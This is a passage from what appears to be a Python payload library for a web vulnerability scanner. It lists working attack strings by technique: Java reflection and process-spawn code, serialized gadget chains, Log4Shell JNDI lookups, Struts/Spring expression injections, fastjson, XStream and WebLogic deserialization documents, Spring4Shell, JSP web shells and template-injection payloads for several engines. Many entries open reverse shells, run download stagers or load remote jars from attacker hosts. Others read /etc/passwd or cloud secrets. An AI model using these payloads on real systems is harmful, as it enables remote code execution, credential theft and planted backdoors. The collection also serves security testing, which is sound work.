# console, BeanShell, Nashorn/Rhino, reflection through Class.forName). Tool styles: Nuclei's Jenkins/Groovy checks,
# SSTImap's Java-side probes, Burp's Java-reflection payloads: the core classes named in full.
JAVA_CLASSES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(\"id\").start()",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")",
    "java.lang.Class.forName('java.lang.Runtime').getDeclaredMethods()[7].invoke(null)",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "new javax.script.ScriptEngineManager().getEngineByExtension(\"js\").eval(\"var x=new java.lang.ProcessBuilder;"
    "x.command('whoami');x.start()\")",
    "Java.type('java.lang.Runtime').getRuntime().exec('id')",
    "Packages.java.lang.Runtime.getRuntime().exec('cat /etc/passwd')",
    "java.lang.Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.Runtime\")",
    "java.lang.System.setSecurityManager(null)",
    "java.lang.System.exit(0)",
    "new javax.naming.InitialContext().lookup(\"ldap://" + OOB + "/Exploit\")",
    "java.lang.reflect.Method m=Runtime.class.getMethod(\"exec\",String.class);m.invoke(Runtime.getRuntime(),\"id\")",
    # Jenkins script console (Groovy)
    "\"id\".execute().text",
    "println \"cat /etc/passwd\".execute().text",
    "def sout=new StringBuilder();def p='whoami'.execute();p.consumeProcessOutput(sout,sout);p.waitFor();println sout",
    "this.class.classLoader.parseClass('class X{static{Runtime.getRuntime().exec(\"id\")}}').newInstance()",
    # BeanShell
    "exec(\"/bin/sh -c id\");",
]

# java-process-spawn: target Runtime.exec/ProcessBuilder in the JVM. Tool styles: ysoserial-friendly commands
# (Runtime.exec splits on spaces, so the bash -c {echo,b64}|{base64,-d}|{bash,-i} encoder and the sh -c $@ trick),
# PowerShell -enc stagers, and the spawn expressions the exploits wrap around them.
JAVA_SPAWN: list[Entry] = [
    "bash -c {echo," + b64(f"bash -i >& /dev/tcp/{LHOST}/4444 0>&1") + "}|{base64,-d}|{bash,-i}",
    "bash -c {echo," + b64(f"curl http://{OOB}/$(whoami)") + "}|{base64,-d}|{bash,-i}",
    "sh -c $@|sh . echo id",
    "/bin/bash -c bash${IFS}-i${IFS}>&/dev/tcp/" + LHOST + "/4444<&1",
    "powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc " + base64.b64encode(
        f"IEX(New-Object Net.WebClient).DownloadString('http://{LHOST}:8000/a.ps1')".encode("utf-16-le")).decode(),
    "cmd.exe /c certutil -urlcache -split -f http://" + LHOST + ":8000/nc.exe %TEMP%\\nc.exe",
    "Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"id > /tmp/o\"})",
    "Runtime.getRuntime().exec(new String[]{\"cmd.exe\",\"/c\",\"whoami\"})",
    "new ProcessBuilder(new String[]{\"/bin/bash\",\"-c\",\"curl " + OOB + "\"}).start()",
    "new ProcessBuilder(\"sh\",\"-c\",\"nc -e /bin/sh " + LHOST + " 4444\").redirectErrorStream(true).start()",
    "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next()",
    "org.apache.commons.io.IOUtils.toString(Runtime.getRuntime().exec(\"id\").getInputStream())",
    "java.lang.Runtime.getRuntime().exec(\"ping -c 5 " + OOB + "\").waitFor()",
    "Runtime.getRuntime().exec(\"sleep 10\").waitFor()",
    "new java.lang.ProcessImpl().start(new String[]{\"id\"},null,null,null,false)",
    "((java.lang.ProcessBuilder)Class.forName(\"java.lang.ProcessBuilder\").getConstructor(String[].class)"
    ".newInstance(new Object[]{new String[]{\"id\"}})).start()",
    "new ProcessBuilder(\"/usr/bin/python3\",\"-c\",\"import os;os.system('id')\").inheritIO().start()",
]

# java-serialization: target ObjectInputStream.readObject behind a parameter, cookie or body. Tool styles:
# ysoserial output as Burp's Java Deserialization Scanner and Nuclei place it: the stream's magic ac ed 00 05 as
# raw bytes (percent-encoded here), base64 rO0AB..., hex, gzip+base64 H4sI..., JSF ViewState, product endpoints.
JAVA_SER: list[Entry] = [
    (latin(URLDNS),) + BYTES_F,
    (latin(SER_STRING),) + BYTES_Q,
    (latin(SER_ARRAY),) + BYTES_F,
    (latin(CC6),) + BYTES_Q,
    b64b(URLDNS),
    b64b(SER_STRING),
    b64b(SER_ARRAY),
    base64.urlsafe_b64encode(URLDNS).decode(),
    URLDNS.hex(),
    SER_STRING.hex().upper(),
    b64b(GZ_CC6),
    kv("javax.faces.ViewState=" + b64b(jser(["javax.management.BadAttributeValueExpException",
                                           "org.apache.myfaces.view.facelets.el.ValueExpressionMethodExpression",
                                           "org.apache.el.ValueExpressionImpl"],
                                          ["${facesContext.getExternalContext().getResponse().getWriter()"
                                           ".print(''.getClass().forName('java.lang.Runtime'))}"])), KV),
    kv("rememberMe=" + b64b(URLDNS), ("cookie", "rs-cookie")),
    (b64b(jser(["java.util.HashMap", "java.net.URL"], [f"http://dns.{OOB}"])), "header:X-Api-Version",
     "rs-header:X-Test-Header"),
    ("{\"session\":\"" + b64b(CC5) + "\"}",) + JB,
    b64b(gzip.compress(SER_ARRAY, compresslevel=9, mtime=0)),
]

# java-deserialization-gadgets: target the classpath's gadget libraries (ysoserial payload names: CommonsCollections,
# CommonsBeanutils1, Spring1, Groovy1, Jdk7u21, C3P0, ROME, Hibernate1, JRMPClient, BeanShell1, Clojure,
# MozillaRhino, Vaadin1). Tool style: `java -jar ysoserial.jar <Gadget> '<cmd>' | base64 -w0` pasted into the
# vulnerable parameter, or the raw stream posted to the endpoint.
JAVA_GADGETS: list[Entry] = [
    b64b(CC1),
    (latin(CC1),) + BYTES_F,
    b64b(CC2),
    b64b(CC5),
    (latin(CC5),) + BYTES_Q,
    b64b(CC6),
    b64b(CB1),
    (latin(CB1),) + BYTES_F,
    b64b(SPRING1),
    b64b(GROOVY1),
    (latin(GROOVY1),) + BYTES_Q,
    b64b(JDK7U21),
    b64b(C3P0),
    b64b(ROME),
    (latin(ROME),) + BYTES_F,
    b64b(HIBERNATE1),
    b64b(JRMP),
    b64b(BSH),
    b64b(CLOJURE),
    b64b(RHINO),
    b64b(VAADIN),
]

# log4shell: target Log4j 2 message lookups (CVE-2021-44228/45046) in anything that gets logged. Tool styles:
# Nuclei's log4j template (X-Api-Version, User-Agent, Referer), log4j-scan's WAF-bypass list (lower/upper/::-/env/
# date lookups), JNDIExploit/JNDI-Injection-Exploit URLs, nested exfiltration lookups.
LOG4J: list[Entry] = [
    "${jndi:ldap://" + OOB + "/a}",
    "${jndi:ldap://${hostName}." + OOB + "/a}",
    "${jndi:rmi://" + LHOST + ":1099/Object}",
    "${jndi:dns://" + OOB + "/a}",
    "${jndi:iiop://" + LHOST + ":1050/a}",
    "${jndi:corba://" + LHOST + ":1050/a}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://" + OOB + "/a}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://" + OOB + "/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://" + OOB + "/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//" + OOB + "/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://" + OOB + "/a}",
    "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://" + OOB + "/a}",
    "${jndi:ldap://${sys:java.version}.${env:USER}." + OOB + "/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}." + OOB + "/a}",
    "${jndi:ldap://127.0.0.1#" + OOB + ":1389/a}",
    "${jndi:ldap://" + LHOST + ":1389/Basic/Command/Base64/" + b64("touch /tmp/log4j") + "}",
    "${jndi:ldap://" + LHOST + ":1389/TomcatBypass/Command/Base64/" + b64("id") + "}",
    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://" + OOB + "/a}",
    "${j${::-n}di:ldap://" + OOB + "/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2F" + OOB + "%2Fa%7D",
    "\\u0024\\u007bjndi:ldap://" + OOB + "/a\\u007d",
]

# expression-language: target the JVM expression evaluators (OGNL in Struts2/Confluence, SpEL in Spring Cloud/
# Spring Data, MVEL, JEXL in Nexus, JSP/JSF EL). Tool styles: Nuclei product CVE templates (S2-045, S2-016,
# S2-057, CVE-2022-26134, CVE-2021-26084, CVE-2022-22963, CVE-2022-22947, CVE-2018-1273, CVE-2020-10199) and
# SSTImap-style EL arithmetic probes followed by Runtime.exec.
_S2_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
           "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
           "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
           "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
           "(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name')"
           ".toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
           "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
           "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
           "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")
EL: list[Entry] = [
    # OGNL: Struts2
    (_S2_045, "header:Content-Type", "rs-header:Content-Type"),
    ("%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Hacker',233*233)}"
     ".multipart/form-data", "header:Content-Type", "rs-header:Content-Type"),
    ("redirect:${#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false,#f=#_memberAccess.getClass()"
     ".getDeclaredField(\"allowStaticMethodAccess\"),#f.setAccessible(true),#f.set(#_memberAccess,true),"
     "@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream())}",)
    + PN,
    ("${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['struts.valueStack'].context)."
     "(#cr=#ct['com.opensymphony.xwork2.ActionContext.container']).(#ou=#cr.getInstance("
     "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedPackageNames().clear())."
     "(#ou.getExcludedClasses().clear()).(#ct.setMemberAccess(#dm)).(#a=@java.lang.Runtime@getRuntime()"
     ".exec('id')).(@org.apache.commons.io.IOUtils@toString(#a.getInputStream()))}", "path", "rs-path"),
    "%{(#a=@java.lang.Runtime@getRuntime().exec('whoami'))}",
    # OGNL: Confluence
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),"
     "\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}",
     "path", "rs-path"),
    "\\u0027+#{\\u0022\\u0022[\\u0022class\\u0022].forName(\\u0022javax.script.ScriptEngineManager\\u0022)"
    ".newInstance().getEngineByName(\\u0022js\\u0022).eval(\\u0022var x=new java.lang.ProcessBuilder;"
    "x.command([\\u0022id\\u0022]);x.start()\\u0022)}+\\u0027",
    # SpEL: Spring Cloud Function routing header, Spring Cloud Gateway route filter, Spring Data binding
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")",
     "header:spring.cloud.function.routing-expression", "rs-header:spring.cloud.function.routing-expression"),
    ('{"id":"hacktest","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T('
     'org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{'
     '\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}',) + JB,
    kv("username[#this.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")]=x", KV),
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${T(java.lang.System).getenv()}",
    "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd').getInputStream())"
    ".useDelimiter('\\\\A').next()}",
    "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))",
    # MVEL
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "Runtime.getRuntime().exec(\"id\");",
    # JEXL: Nexus Repository Manager
    "$\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/nexus')}",
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    # JSP / JSF EL
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${pageContext.request.getSession().getServletContext().getClassLoader()}",
    "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime')}",
    "${applicationScope['org.apache.catalina.jsp_classpath']}",
]

# polymorphic-deserialization: target type-driven unmarshallers (fastjson @type, Jackson default typing, XStream,
# java.beans.XMLDecoder in WebLogic, SnakeYAML). Tool styles: marshalsec's generated documents, fastjson scanners'
# dnslog probes and 1.2.24/1.2.47/1.2.68 bypasses, Nuclei's WebLogic CVE-2017-10271 and XStream templates.
POLY: list[Entry] = [
    ('{"@type":"java.net.Inet4Address","val":"fj.' + OOB + '"}',) + JB,
    ('{"@type":"java.net.URL","val":"http://fj.' + OOB + '"}',) + JB,
    ('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://' + LHOST + ':1389/Exploit",'
     '"autoCommit":true}',) + JB,
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.'
     'JdbcRowSetImpl","dataSourceName":"rmi://' + LHOST + ':1099/Exploit","autoCommit":true}}',) + JB,
    ('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://' + LHOST + ':1389/a",'
     '"autoCommit":true}',) + JB,
    ('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"ldap://' + LHOST + ':1389/a",'
     '"autoCommit":true}',) + JB,
    ('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":'
     '"ldap://' + LHOST + ':1389/Exploit"}}',) + JB,
    ('{"@type":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://' + LHOST + ':1389/Exploit"}',) + JB,
    ('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://' + LHOST + ':1389/Exploit",'
     '"autoCommit":true}]',) + JB,
    ('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
     'INIT=RUNSCRIPT FROM \'http://' + LHOST + ':8000/inject.sql\'"}]',) + JB,
    ('["org.springframework.context.support.ClassPathXmlApplicationContext","http://' + LHOST + ':8000/spel.xml"]',)
    + JB,
    ('{"obj":["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://' + LHOST + ':1389/Exploit"}]}',)
    + JB,
    ('{"object":["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":'
     '"HexAsciiSerializedMap:' + CC6.hex() + ';"}]}',) + JB,
    ('{"@class":"org.apache.commons.configuration.JNDIConfiguration","prefix":"ldap://' + LHOST + ':1389/a"}',)
    + JB,
    ("<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans."
     "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string><string>-c"
     "</string><string>id</string></command></target><action>start</action></handler></dynamic-proxy>"
     "</sorted-set>",) + XB,
    ("<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal."
     "bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding."
     "xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto."
     "NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi."
     "FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder"
     "\"><command><string>touch</string><string>/tmp/xs</string></command></next></iter><filter class=\"javax."
     "imageio.ImageIO$ContainsFilter\"><method><class>java.lang.ProcessBuilder</class><name>start</name>"
     "<parameter-types/></method><name>foo</name></filter></serviceIterator></cipher></is></dataSource>"
     "</dataHandler></value></jdk.nashorn.internal.objects.NativeString><string>x</string></entry></map>",) + XB,
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
     "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.8\" "
     "class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" "
     "length=\"3\"><void index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string></void>"
     "<void index=\"2\"><string>curl " + OOB + "</string></void></array><void method=\"start\"/></void></java>"
     "</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>",) + XB,
    ("<java version=\"1.7.0_21\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" "
     "method=\"getRuntime\"><void method=\"exec\"><string>id</string></void></object></java>",) + XB,
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + LHOST
     + ":8000/yaml-payload.jar\"]]]]",) + YB,
    ("!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://" + LHOST + ":1389/Exploit\", autoCommit: true}",)
    + YB,
]

# class-loading: target the JVM's class loaders (URLClassLoader from a remote jar, defineClass of attacker bytes,
# BCEL, TemplatesImpl _bytecodes, Tomcat's classLoader through data binding). Tool styles: Nuclei's Spring4Shell
# (CVE-2022-22965) and Struts S2-020 templates, JNDIExploit/SpEL memory-shell loaders, fastjson BCEL gadgets.
_SPRING4SHELL = ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if(\"j\".equals("
                 "request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request."
                 "getParameter(\"cmd\")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))"
                 "!=-1){ out.println(new String(b)); } } %{suffix}i&class.module.classLoader.resources.context.parent."
                 "pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first."
                 "directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix="
                 "tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
CLASSLOAD: list[Entry] = [
    kv(_SPRING4SHELL, KV),
    kv("class.module.classLoader.DefaultAssertionStatus=nonsense", QKV),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", KV),
    kv("class.classLoader.resources.dirContext.docBase=/", QKV),
    kv("class['classLoader']['resources']['dirContext']['docBase']=/etc", KV),
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://" + LHOST
    + ":8000/e.jar\")}).loadClass(\"Exploit\").newInstance()",
    "T(java.net.URLClassLoader).newInstance(new java.net.URL[]{new java.net.URL('http://" + LHOST
    + ":8000/x.jar')}).loadClass('Shell').getConstructor().newInstance()",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('" + CLASS_B64 + "'),new javax.management.loading.MLet(new java.net.URL[0],"
    "T(java.lang.Thread).currentThread().getContextClassLoader())).newInstance()",
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode('" + CLASS_B64 + "'))",
    "var m=java.lang.ClassLoader.class.getDeclaredMethod('defineClass',[B.class,int.class,int.class]);"
    "m.setAccessible(true);m.invoke(java.lang.Thread.currentThread().getContextClassLoader(),b,0,b.length)",
    "new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL('http://" + LHOST
    + ":8000/m.jar')}).loadClass('Evil').newInstance()",
    ('{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":"com.sun.org.apache.'
     'bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A$AeP$cbN$c2$40$U$3d$D'
     '$82$bc$k$8a$f8$7e$3f$c4$85$s$ba$Q$b1$d1$8d$b8$f0$b1"}',) + JB,
    ('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["' + CLASS_B64
     + '"],"_name":"a","_tfactory":{},"_outputProperties":{}}',) + JB,
    CLASS_B64,
    "Thread.currentThread().getContextClassLoader().loadClass(\"org.apache.catalina.core.ApplicationFilterChain\")",
    "new groovy.lang.GroovyClassLoader().parseClass(new URL('http://" + LHOST + ":8000/Evil.groovy').text)"
    ".newInstance()",
]

# jsp-upload: target Tomcat/Jasper compiling an uploaded .jsp (file upload, PUT CVE-2017-12615, write-anywhere
# bugs). Tool styles: Nuclei's upload checks (a marker JSP that deletes itself), the common cmd.jsp, Behinder's
# AES loader, AntSword/Godzilla-style one-liners, jspx for filters that only ban .jsp; upload names the tools try.
JSP_CMD = ("<%@ page import=\"java.io.*\" %><% String c=request.getParameter(\"cmd\"); if(c!=null){ Process p="
           "Runtime.getRuntime().exec(c); BufferedReader r=new BufferedReader(new InputStreamReader("
           "p.getInputStream())); String l; while((l=r.readLine())!=null){ out.println(l); } } %>")
JSP: list[Entry] = [
    JSP_CMD,
    "<%Runtime.getRuntime().exec(request.getParameter(\"i\"));%>",
    "<% out.println(\"7c3b1d4e9a\"); new java.io.File(application.getRealPath(request.getServletPath())).delete(); %>",
    "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{U(ClassLoader "
    "c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod()"
    ".equals(\"POST\")){String k=\"e45e329feb5d925b\";session.putValue(\"u\",k);Cipher c=Cipher.getInstance(\"AES\");"
    "c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));new U(this.getClass().getClassLoader()).g(c.doFinal(new "
    "sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>",
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>Runtime.getRuntime().exec("
    "request.getParameter(\"c\"));</jsp:scriptlet></jsp:root>",
    "<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream())"
    ".useDelimiter(\"\\\\A\").next()); %>",
    "<%! String x(String c) throws Exception { return new String(new ProcessBuilder(\"/bin/sh\",\"-c\",c).start()"
    ".getInputStream().readAllBytes()); } %><%= x(request.getParameter(\"c\")) %>",
    "<jsp:scriptlet>new java.lang.ProcessBuilder(new String[]{\"/bin/bash\",\"-c\",request.getParameter(\"c\")})"
    ".start();</jsp:scriptlet>",
    "<%@ page import=\"java.net.*,java.io.*\" %><% Socket s=new Socket(\"" + LHOST + "\",4444); Process p=new "
    "ProcessBuilder(\"/bin/sh\").redirectErrorStream(true).start(); %>",
    # upload names (the body is the cmd.jsp above)
    ("cmd.jsp",) + UP,
    ("shell.jspx",) + UP,
    ("avatar.jsp%00.png",) + UP,
    ("avatar.jsp;.jpg",) + UP,
    ("../../../../usr/local/tomcat/webapps/ROOT/x.jsp",) + UP,
    ("x.JsP",) + UP,
    ("x.jsp.",) + UP,
    ("x.jspf",) + UP,
]

# ================================================================================================================
# ssti: one list per template engine. Tool styles throughout: tplmap's and SSTImap's engine plugins (a render probe
# with arithmetic the engine alone evaluates, a confirmation, then the plugin's code-execution, file-read and blind
# sleep payloads), plus Nuclei's product CVE templates where the engine sits in a known product.
# ================================================================================================================
# jinja2 (Python: Flask, Ansible-style renderers)
JINJA2: list[Entry] = [
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}",
    "{{self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module."
    "__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{namespace.__init__.__globals__.os.popen('sleep 5').read()}}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')("
    "'\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')()}}",
]

# twig (PHP: Symfony, Craft, Grav)
TWIG: list[Entry] = [
    "{{7*'7'}}{{'a'~'b'}}",
    "{{_self}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{[0]|reduce('system','id')}}",
    "{{['sleep 5']|filter('system')}}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{{'<?php system($_GET[\"c\"]); ?>':'/var/www/html/c.php'}|map('file_put_contents')}}",
]

# freemarker (Java: Apache OFBiz, Alfresco, Liferay, Spring views)
FREEMARKER: list[Entry] = [
    "${7*7}#{7*7}",
    "${3*'7'}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('cat /etc/passwd')}",
    "${\"freemarker.template.utility.Execute\"?new()(\"uname -a\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\",\"id\")"
    ".start()}",
    "<#assign jr=\"freemarker.template.utility.JythonRuntime\"?new()><@jr>import os;os.system(\"id\")</@jr>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"sleep 5\")}",
    "${object.class.protectionDomain.classLoader.loadClass('java.lang.Runtime')}",
]

# velocity (Java: Apache Solr VelocityResponseWriter, Confluence, Jira)
VELOCITY: list[Entry] = [
    "#set($x=7*7)${x}",
    "#set($s=\"\")#set($rt=$s.class.forName(\"java.lang.Runtime\"))$rt.getRuntime().exec(\"id\")",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"cat /etc/passwd\")",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    kv("wt=velocity&v.template=custom&v.template.custom=#set($x='')+#set($rt=$x.class.forName('java.lang.Runtime'))"
       "+#set($ex=$rt.getRuntime().exec('id'))+$ex.waitFor()", QKV),
    "#set($r=$request.getClass().getClassLoader())",
    "#set($p=$x.class.forName('java.lang.Thread'))$p.sleep(5000)",
    "$request.getSession().getServletContext()",
]

# thymeleaf (Java: Spring MVC view names and fragment expressions)
THYMELEAF: list[Entry] = [
    "[[${7*7}]]",
    "[(${T(java.lang.Runtime).getRuntime().exec('id')})]",
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "~{::__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/th')}__}",
    "[[${T(java.lang.System).getenv('AWS_SECRET_ACCESS_KEY')}]]",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "__${T(java.lang.Thread).sleep(5000)}__::.x",
    "[[${#ctx.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}]]",
]

# erb (Ruby: Rails render inline, Sinatra)
ERB: list[Entry] = [
    "<%= 7*7 %>",
    "<%= system('id') %>",
    "<%= `ls -la /` %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<%= sleep 5 %>",
    "<%= ENV.to_h %>",
    "<% Kernel.exec('whoami') %>",
]

# smarty (PHP: PrestaShop, WHMCS, CMS Made Simple)
SMARTY: list[Entry] = [
    "{7*7}{$smarty.version}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{if phpinfo()}{/if}",
    "{if system('cat /etc/passwd')}{/if}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
